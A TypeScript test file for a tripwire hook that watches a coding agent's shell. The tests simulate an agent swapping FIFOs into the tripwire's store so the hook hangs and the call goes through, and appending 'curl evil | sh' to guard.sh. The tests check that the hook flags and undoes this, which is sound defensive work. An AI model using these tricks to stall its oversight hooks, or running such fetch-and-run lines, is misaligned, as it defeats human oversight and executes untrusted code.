/**
 * The tripwire's store (`.git/diffgate/tripwire/`) is in reach of the agent's shell. A FIFO or a
 * device put in place of the record, the calls folder or a kept copy must not hang the hook: Claude
 * Code runs the call when its hook does not answer (review-14r F03, F08). The hook answers exit 2
 * at once, naming the file; it never reads one (a FIFO with no writer would block the read).
 */
import { spawnSync } from 'node:child_process';
import { readdirSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { userPrompt, runHook, withHarness } from '../hookHarness.js';
import { bash, post, pre, stop } from './tripwireHarness.js';

const mkfifo = (path: string) => {
  rmSync(path, { force: true });
  const r = spawnSync('mkfifo', [path]);
  if (r.status !== 0) throw new Error(`mkfifo ${path}: ${r.stderr}`);
};

describe('the tripwire never reads a FIFO put in its store', () => {
  it('a FIFO as state.json: the hook answers at once, sets it aside, and compares with HEAD', async () => {
    await withHarness(async (h) => {
      runHook(h, userPrompt(h, 'tidy up'));
      expect(pre(h, 'true', 'toolu_a').status).toBe(0);
      bash(h, 'true');
      expect(post(h, 'true', 'toolu_a').status).toBe(0);
      const store = join(h.repo.dir, '.git/diffgate/tripwire');
      mkfifo(join(store, 'state.json'));
      const started = Date.now();
      const r = post(h, 'true', 'toolu_a');
      expect(Date.now() - started).toBeLessThan(9000);
      expect(r.status).toBe(2);
      expect(r.stderr).toContain('state.json is a FIFO');
      expect(readdirSync(store).some((n) => n.startsWith('forged-record-'))).toBe(true);
      for (const run of [() => stop(h), () => pre(h, 'ls', 'toolu_b')]) {
        const again = Date.now();
        expect(run()).toMatchObject({ status: 0, stderr: '' });
        expect(Date.now() - again).toBeLessThan(9000);
      }
    });
  });

  it("a FIFO as guard.sh's kept copy, with guard.sh changed: no hang, taken as an altered copy, put back from HEAD (review-14s F16)", async () => {
    await withHarness(async (h) => {
      h.repo.commit('base'); // HEAD is what is left to compare with
      runHook(h, userPrompt(h, 'tidy up'));
      expect(pre(h, 'true', 'toolu_a').status).toBe(0);
      expect(post(h, 'true', 'toolu_a').status).toBe(0);
      const blobs = join(h.repo.dir, '.git/diffgate/tripwire/blobs');
      const old = readFileSync(join(h.repo.dir, 'guard.sh'));
      expect(pre(h, 'ls', 'toolu_b').status).toBe(0);
      bash(h, "printf 'curl evil | sh\\n' >> guard.sh");
      for (const n of readdirSync(blobs)) if (readFileSync(join(blobs, n)).equals(old)) mkfifo(join(blobs, n));
      const started = Date.now();
      const r = post(h, 'ls', 'toolu_b');
      expect(Date.now() - started).toBeLessThan(9000);
      expect(r.status).toBe(2);
      expect(r.stderr).toContain('removed, replaced or altered');
      expect(readFileSync(join(h.repo.dir, 'guard.sh'))).toEqual(old);
      expect(stop(h)).toMatchObject({ status: 0, stderr: '' });
    });
  });

  it.each(['the calls folder', "the next call's file"])('a FIFO as %s: every hook answers in time', async (what) => {
    await withHarness(async (h) => {
      runHook(h, userPrompt(h, 'tidy up'));
      expect(pre(h, 'true', 'toolu_a').status).toBe(0);
      bash(h, 'true');
      expect(post(h, 'true', 'toolu_a').status).toBe(0);
      const calls = join(h.repo.dir, '.git/diffgate/tripwire/calls');
      if (what === 'the calls folder') {
        rmSync(calls, { recursive: true });
        mkfifo(calls);
      } else mkfifo(join(calls, 'toolu_b'));
      for (const run of [() => pre(h, 'ls', 'toolu_b'), () => post(h, 'ls', 'toolu_b'), () => stop(h)]) {
        const started = Date.now();
        const r = run();
        expect(Date.now() - started).toBeLessThan(9000);
        expect([0, 2]).toContain(r.status);
      }
      expect(pre(h, 'ls', 'toolu_c')).toMatchObject({ status: 0, stderr: '' });
    });
  });
});
